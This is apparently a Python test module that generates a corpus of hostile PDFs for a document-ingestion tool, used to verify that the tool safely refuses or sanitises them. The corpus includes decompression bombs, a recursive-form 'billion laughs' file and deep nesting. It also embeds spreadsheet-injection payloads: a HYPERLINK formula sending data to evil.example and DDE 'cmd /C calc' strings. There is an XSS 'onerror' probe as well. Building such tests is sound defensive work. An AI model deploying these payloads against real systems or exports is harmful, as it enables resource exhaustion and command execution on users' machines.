"""The hostile corpus: files people really drop in an inbox, generated rather than committed.

`make_corpus(inbox, outside)` writes, in `inbox`, one file per kind of trouble (empty, random
bytes, an HTML page, truncated PDFs, a password, a scan, 2,000 blank pages, decompression
bombs, deep nesting, hostile file names (two not UTF-8, one a good report), a symlink leading
out of the inbox, a folder named like a PDF) plus the real bad files of the shared corpus when
it is present, and returns what each should come to. Every file has bytes of its own: the
index keys documents by sha256.

Run it alone to look at the files: `.venv/bin/python tests/hostile.py /tmp/hostile`.
"""

from __future__ import annotations

import io
import os
import random
import sys
import textwrap
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

FIXTURES = Path(__file__).resolve().parent / "fixtures"
SHARED = Path(__file__).resolve().parents[2] / "shared" / "data"

# The real PDF the truncations are cut from (written by pdfium, cross-reference table at the
# end): not one of the good files ingested beside the corpus, so that its recommendations
# never collide with theirs (same symbol, same ids).
TRUNCATION_SOURCE = FIXTURES / "albania2014_recs.pdf"
# A linearized original (cross-reference table at the start), from the shared corpus.
LINEARIZED_SOURCE = SHARED / "wg_reports" / "albania2014.pdf"
BOMB_ZEROS_BYTES = 2 << 30  # 2 GiB of zeros in a stream of a few kB
BOMB_OPERATORS_BYTES = 1 << 30  # 1 GiB of "q " (save graphics state) operators
BLANK_PAGES = 2000
NESTING_DEPTH = 100_000
PAGE_TREE_DEPTH = 2000
# Spaces, unicode, a newline and "..": a name a shell, a log line or a path join may choke on.
HOSTILE_NAME = "..  rapport final\névaluation ☃ ...pdf"
# Names whose bytes are not UTF-8 (files unzipped from an archive made on Windows, in cp1252):
# Python holds them with lone surrogates, which SQLite, JSON and Prefect's API refuse.
NOT_UTF8_NAME = os.fsdecode(b"rapport d'\xe9t\xe9.pdf")
NOT_UTF8_GOOD = os.fsdecode(b"Burundi \x96 recommandations.pdf")
# A worker stopped by its budget says so: past the memory cap, or past the time limit.
BUDGET_REASONS = ("needed more than", "took more than")
# A truncated file is refused as broken, or read when pdfium can rebuild it.
TRUNCATED = frozenset({"failed", "indexed"})


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file of the corpus, how to make it, and what ingesting it must give.

    `statuses`: the documents.status values it may get; `reasons`: fragments of which its error
    must hold one. `scanned` False: the scans must skip it (a symlink, a folder, not .pdf).
    `shared`: made from the shared corpus, absent without it.
    """

    name: str
    kind: str
    make: Callable[[], bytes] | None
    statuses: frozenset[str] = frozenset({"failed"})
    reasons: tuple[str, ...] = ()
    scanned: bool = True
    shared: bool = False
    budget: bool = False  # stopped by the time or memory budget

    @property
    def source(self) -> Path | None:
        """The real file a truncation was cut from (or that it is, renamed)."""
        return _MADE_FROM.get(self.name)


def _truncation(name: str, source: Path, cut: float, shared: bool = False) -> Hostile:
    """`source` cut at a share of its length (or, negative, that many bytes before its end)."""

    def make() -> bytes:
        data = source.read_bytes()
        return data[: int(len(data) * cut) if cut > 0 else len(data) + int(cut)]

    _MADE_FROM[name] = source
    where = f"{cut:.0%} of it" if cut > 0 else f"all but its last {-int(cut)} bytes"
    return Hostile(
        name,
        f"{source.name} cut: {where}",
        make,
        TRUNCATED,
        ("broken PDF", "truncated"),
        shared=shared,
    )


def _renamed(name: str, kind: str) -> Hostile:
    """A good real PDF (bytes of its own) under a hostile name: indexed, read as the original."""
    source = FIXTURES / "burundi2009_recs.pdf"
    _MADE_FROM[name] = source
    return Hostile(name, kind, lambda: _salted(source, b"renamed"), frozenset({"indexed"}))


def _shared_copy(name: str) -> Callable[[], bytes]:
    return lambda: (SHARED / "bad" / name).read_bytes()


_MADE_FROM: dict[str, Path] = {}

CORPUS: tuple[Hostile, ...] = (
    Hostile("empty.pdf", "zero-byte file", bytes, reasons=("empty file",)),
    Hostile(
        "random.pdf",
        "random bytes",
        lambda: random.Random(8).randbytes(64 * 1024),
        reasons=("not a PDF",),
    ),
    Hostile("download.pdf", "HTML page saved as .pdf", lambda: _html(), reasons=("an HTML page",)),
    _truncation("truncated_header.pdf", TRUNCATION_SOURCE, 0.01),
    _truncation("truncated_half.pdf", TRUNCATION_SOURCE, 0.5),
    _truncation("truncated_nine_tenths.pdf", TRUNCATION_SOURCE, 0.9),
    _truncation("truncated_no_startxref.pdf", TRUNCATION_SOURCE, -24),
    _truncation("truncated_no_eof.pdf", TRUNCATION_SOURCE, -6),
    _truncation("truncated_linearized_half.pdf", LINEARIZED_SOURCE, 0.5, shared=True),
    _truncation("truncated_linearized_99.pdf", LINEARIZED_SOURCE, 0.99, shared=True),
    Hostile(
        "password.pdf",
        "password-protected PDF",
        lambda: _encrypted(FIXTURES / "andorra2011_recs.pdf"),
        reasons=("password-protected",),
    ),
    Hostile(
        "scan.pdf",
        "image-only page (a scan)",
        lambda: _scan(),
        frozenset({"needs_ocr"}),
        ("no text layer",),
    ),
    Hostile(
        "blank_2000_pages.pdf",
        f"{BLANK_PAGES} blank pages",
        lambda: _blank_pages(BLANK_PAGES),
        frozenset({"needs_ocr"}),
        ("no text layer",),
    ),
    Hostile(
        "bomb_zeros.pdf",
        f"decompression bomb: {BOMB_ZEROS_BYTES >> 30} GiB of zeros",
        lambda: _bomb(b"\0", BOMB_ZEROS_BYTES),
        reasons=BUDGET_REASONS,
        budget=True,
    ),
    Hostile(
        "bomb_operators.pdf",
        f"decompression bomb: {BOMB_OPERATORS_BYTES >> 30} GiB of drawing operators",
        lambda: _bomb(b"q ", BOMB_OPERATORS_BYTES),
        reasons=BUDGET_REASONS,
        budget=True,
    ),
    Hostile(
        "form_laughs.pdf",
        "two forms drawing each other twice (exponential, a billion laughs)",
        lambda: _laughs(),
        reasons=BUDGET_REASONS,
        budget=True,
    ),
    Hostile(
        "nested.pdf",
        f"arrays nested {NESTING_DEPTH} deep, page tree {PAGE_TREE_DEPTH} levels deep",
        lambda: _nested(NESTING_DEPTH, PAGE_TREE_DEPTH),
        reasons=("broken PDF",),
    ),
    Hostile(
        HOSTILE_NAME,
        "name with spaces, unicode, a newline and ..",
        lambda: b"This is a note, not a PDF.\n",
        reasons=("not a PDF",),
    ),
    Hostile(
        NOT_UTF8_NAME,
        "name whose bytes are not UTF-8",
        lambda: b"A note saved under a Windows name, not a PDF.\n",
        reasons=("not a PDF",),
    ),
    _renamed(NOT_UTF8_GOOD, "a real WG report named in bytes that are not UTF-8"),
    Hostile("link.pdf", "symlink to a PDF outside the inbox", None, scanned=False),
    Hostile("folder.pdf", "folder named like a PDF", None, scanned=False),
    # pdfium reads it: the damage is not in what it needs.
    Hostile(
        "malformed_g0917123.pdf",
        "real malformed PDF",
        _shared_copy("malformed_g0917123.pdf"),
        frozenset({"indexed"}),
        shared=True,
    ),
    Hostile(
        "scanned_letter_2019.pdf",
        "real scanned letter",
        _shared_copy("scanned_letter_2019.pdf"),
        frozenset({"needs_ocr"}),
        ("no text layer",),
        shared=True,
    ),
    # Not .pdf: the scans skip it; the same bytes named .pdf reach the loader.
    Hostile(
        "misnamed_ooxml.doc",
        "real Word file",
        _shared_copy("misnamed_ooxml.doc"),
        scanned=False,
        shared=True,
    ),
    Hostile(
        "misnamed_ooxml.doc.pdf",
        "real Word file named .pdf",
        _shared_copy("misnamed_ooxml.doc"),
        reasons=("not a PDF",),
        shared=True,
    ),
)


@dataclass(frozen=True, slots=True)
class HostileText:
    """A readable PDF whose text is hostile to what uprdex writes out: one sentence, the first
    of its document, citing a recommendation of Slovenia's 2014 review (A/HRC/28/15, the
    fixture slovenia2014_recs.pdf). Ingest must keep the sentence exactly as evidence of
    `cites`; every export and the HTML report must carry it, and no spreadsheet may run it."""

    name: str
    kind: str
    sentence: str
    cites: str

    def make(self) -> bytes:
        """The PDF: the sentence on lines of at most 90 characters (joined by one space)."""
        return text_pdf(textwrap.wrap(self.sentence, 90, break_on_hyphens=False))


LONG_PARAGRAPH_CHARS = 40_000
_LONG_OPENING = "Recommendation 115.22 of A/HRC/28/15 on the Ombudsman is still not implemented"
_LONG_FILLER = (
    ", and the institutions tasked with protecting human rights lack the powers they need"
)

TEXTS: tuple[HostileText, ...] = (
    HostileText(
        "formula_equals.pdf",
        "text opening with = (a live HYPERLINK formula)",
        '=HYPERLINK("http://evil.example/?d=1","Read") recommendation 115.18 of A/HRC/28/15 '
        "is still not implemented.",
        "A/HRC/28/15#115.18",
    ),
    HostileText(
        "formula_plus.pdf",
        "text opening with + (a DDE command)",
        "+cmd|' /C calc'!A0 and recommendation 115.8 of A/HRC/28/15 was never implemented.",
        "A/HRC/28/15#115.8",
    ),
    HostileText(
        "formula_at.pdf",
        "text opening with @ (a function call)",
        "@SUM(1+9)*cmd|' /C calc'!A0 and recommendation 115.9 of A/HRC/28/15 is ignored.",
        "A/HRC/28/15#115.9",
    ),
    HostileText(
        "formula_minus.pdf",
        "text opening with - (arithmetic that runs a command) and holding an HTML tag",
        "-2+3+cmd|' /C calc'!A0 <img src=x onerror=alert(1)> recommendation 115.10 of "
        "A/HRC/28/15 is ignored.",
        "A/HRC/28/15#115.10",
    ),
    HostileText(
        "control_characters.pdf",
        "control characters (bell, escape, start of heading, backspace, delete, shift out)",
        "Recommendation 115.11 of A/HRC/28/15 \x07rings\x1b[31m red\x01 and \x08\x7f\x0e goes "
        "back unimplemented.",
        "A/HRC/28/15#115.11",
    ),
    HostileText(
        "long_paragraph.pdf",
        f"one paragraph of {LONG_PARAGRAPH_CHARS:,} characters (over a spreadsheet cell's 32,767)",
        (
            _LONG_OPENING
            + _LONG_FILLER * ((LONG_PARAGRAPH_CHARS - len(_LONG_OPENING) - 1) // len(_LONG_FILLER))
        ).ljust(LONG_PARAGRAPH_CHARS - 1, "!")
        + ".",
        "A/HRC/28/15#115.22",
    ),
    HostileText(
        "rtl_override.pdf",
        "a right-to-left override (U+202E) that shows 'implemented' for what is printed",
        "Recommendation 115.18 of A/HRC/28/15 was \u202edetnemelpmi ton\u202c by the Government.",
        "A/HRC/28/15#115.18",
    ),
)


def make_texts(folder: Path) -> list[HostileText]:
    """Write the hostile texts in `folder`; returns them."""
    folder.mkdir(parents=True, exist_ok=True)
    for item in TEXTS:
        (folder / item.name).write_bytes(item.make())
    return list(TEXTS)


def make_corpus(inbox: Path, outside: Path) -> list[Hostile]:
    """Write the hostile corpus in `inbox` (the symlink's target in `outside`); returns the
    entries made (those of the shared corpus only when it is present)."""
    inbox.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    made: list[Hostile] = []
    for item in CORPUS:
        if item.shared and not SHARED.is_dir():
            continue
        target = inbox / item.name
        if item.make is not None:
            target.write_bytes(item.make())
        elif item.name == "link.pdf":
            secret = outside / "secret.pdf"
            secret.write_bytes(_salted(FIXTURES / "burundi2013_recs.pdf", b"outside the inbox"))
            target.symlink_to(secret)
        else:
            target.mkdir()
            (target / "inside.txt").write_text("a folder named like a PDF\n", encoding="utf-8")
        made.append(item)
    return made


def _html() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html lang='en'><head><title>Access denied</title></head>\n"
        b"<body><h1>Please sign in to download A/HRC/28/15</h1>"
        b"<script>document.location='https://example.org/login'</script></body></html>\n"
    )


def _salted(path: Path, salt: bytes) -> bytes:
    """A real PDF with a comment appended: the same document, bytes (and a hash) of its own."""
    return path.read_bytes() + b"\n% " + salt + b"\n"


def _encrypted(path: Path) -> bytes:
    """A real PDF that opens only with a user password."""
    import pikepdf  # a test-only dependency

    out = io.BytesIO()
    with pikepdf.open(path) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="owner", R=6))
    return out.getvalue()


def _scan() -> bytes:
    """One A4 page that is only an image of a printed page (grey noise lines stand in for
    print): what a scanner makes, with no text layer."""
    width, height = 620, 877
    rng = random.Random(19)
    rows = bytearray()
    for y in range(height):
        printed = 80 < y < 800 and (y // 6) % 3 == 0
        rows += bytes(
            rng.randrange(0, 90) if printed and 60 < x < 560 else 255 for x in range(width)
        )
    image = zlib.compress(bytes(rows), 9)
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /XObject << /Im0 5 0 R >> >> >>",
            _stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q\n"),
            _stream(
                image,
                b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                b"/BitsPerComponent 8 /Filter /FlateDecode" % (width, height),
            ),
        ]
    )


def _blank_pages(count: int) -> bytes:
    """`count` empty A4 pages sharing one empty content stream."""
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(count))
    pages = [b"<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>"] * count
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [0 0 595 842] >>" % (kids, count),
            _stream(b""),
            *pages,
        ]
    )


def _bomb(unit: bytes, size: int) -> bytes:
    """One page whose content stream inflates to `size` bytes of `unit` repeated, compressed
    twice (/FlateDecode /FlateDecode): a file of a few kB."""
    inner = _repeated_flate(unit, size)
    outer = zlib.compress(inner, 9)
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << >> >>",
            _stream(outer, b"/Filter [/FlateDecode /FlateDecode]"),
        ]
    )


def _repeated_flate(unit: bytes, size: int) -> bytes:
    """zlib data inflating to `unit` repeated up to `size` bytes, made in well under a second.

    After a full flush a raw deflate stream forgets what came before, so every further 1 MiB
    block compresses to the same bytes: compress one, repeat it, end the stream and append
    the Adler-32 of the whole.
    """
    block = unit * ((1 << 20) // len(unit))
    count, rest = divmod(size, len(block))
    raw = zlib.compressobj(6, zlib.DEFLATED, -15)
    chunk = raw.compress(block) + raw.flush(zlib.Z_FULL_FLUSH)
    tail = raw.compress(block[:rest]) + raw.flush(zlib.Z_FINISH)
    adler = 1
    for _ in range(count):
        adler = zlib.adler32(block, adler)
    adler = zlib.adler32(block[:rest], adler)
    return b"\x78\x9c" + chunk * count + tail + adler.to_bytes(4, "big")


def _nested(depth: int, levels: int) -> bytes:
    """Arrays nested `depth` deep in the catalog and a page tree `levels` deep over one page of
    text: a parser that recurses without a limit overflows its stack. pdfium skips the arrays
    and refuses the page."""
    first = 4  # objects first .. first + levels - 1 are the page-tree nodes, then the page
    nodes = [
        b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>"
        % (2 if level == 0 else first + level - 1, first + level + 1)
        for level in range(levels)
    ]
    page = first + levels
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Nested %s >>" % (b"[" * depth + b"]" * depth),
            b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /MediaBox [0 0 595 842] >>" % first,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *nodes,
            b"<< /Type /Page /Parent %d 0 R /Contents %d 0 R "
            b"/Resources << /Font << /F1 3 0 R >> >> >>" % (page - 1, page + 1),
            _stream(b"BT /F1 12 Tf 72 700 Td (Recommendations 115.1 and 115.2, deep down.) Tj ET"),
        ]
    )


def _laughs() -> bytes:
    """A page drawing two forms that each draw both forms twice: pdfium expands them until its
    nesting limit, 4 ** depth drawings (it ate all 23 GB of the test machine unbounded)."""
    resources = b"/Resources << /XObject << /X0 5 0 R /X1 6 0 R >> >>"
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] " + resources
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            + resources
            + b" >>",
            _stream(b"/X0 Do /X1 Do"),
            _stream(b"/X0 Do /X1 Do /X0 Do /X1 Do", form),
            _stream(b"/X1 Do /X0 Do /X1 Do /X0 Do", form),
        ]
    )


def text_pdf(lines: list[str], per_page: int = 50) -> bytes:
    """A PDF printing these lines in Helvetica 10 pt, `per_page` lines to an A4 page.

    Any Unicode text: printable ASCII is printed as itself, and each other character (up to
    160 of them: "é", a control character, U+202E) gets a spare code of the font that its
    ToUnicode map gives back, as the subset fonts of PDF makers do.
    """
    spare = [*range(0x01, 0x20), *range(0x7F, 0x100)]
    codes: dict[str, int] = {}

    def encode(line: str) -> bytes:
        out = bytearray()
        for char in line:
            if " " <= char <= "~":
                out += b"\\" + char.encode() if char in "\\()" else char.encode()
            else:
                out += b"\\%03o" % codes.setdefault(char, spare[len(codes)])
        return bytes(out)

    pages = [lines[i : i + per_page] for i in range(0, len(lines), per_page)] or [[]]
    contents = [
        _stream(
            b"\n".join(
                [b"BT /F1 10 Tf 14 TL 60 770 Td", *(b"(%s) Tj T*" % encode(x) for x in page), b"ET"]
            )
        )
        for page in pages
    ]
    first = 5  # objects 5, 7, 9 ... are the pages, each followed by its content stream
    kids = b" ".join(b"%d 0 R" % (first + 2 * i) for i in range(len(pages)))
    mapped = b"\n".join(b"<%02X> <%04X>" % (code, ord(char)) for char, code in codes.items())
    to_unicode = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
        b"/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
        b"1 begincodespacerange <00> <FF> endcodespacerange\n"
        b"1 beginbfrange <20> <7E> <0020> endbfrange\n"
        + (b"%d beginbfchar\n%s\nendbfchar\n" % (len(codes), mapped) if codes else b"")
        + b"endcmap CMapName currentdict /CMap defineresource pop end end"
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [0 0 595 842] >>" % (kids, len(pages)),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 4 0 R >>",
        _stream(to_unicode),
    ]
    for number, content in enumerate(contents):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /Contents %d 0 R "
            b"/Resources << /Font << /F1 3 0 R >> >> >>" % (first + 2 * number + 1)
        )
        objects.append(content)
    return _pdf(objects)


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF file of these objects (numbered from 1, the first the catalog) with a good xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile")
    for item in make_corpus(target / "inbox", target / "outside"):
        expect = "/".join(sorted(item.statuses)) if item.scanned else "skipped"
        print(f"{item.name!r:45} {item.kind}: expect {expect}")
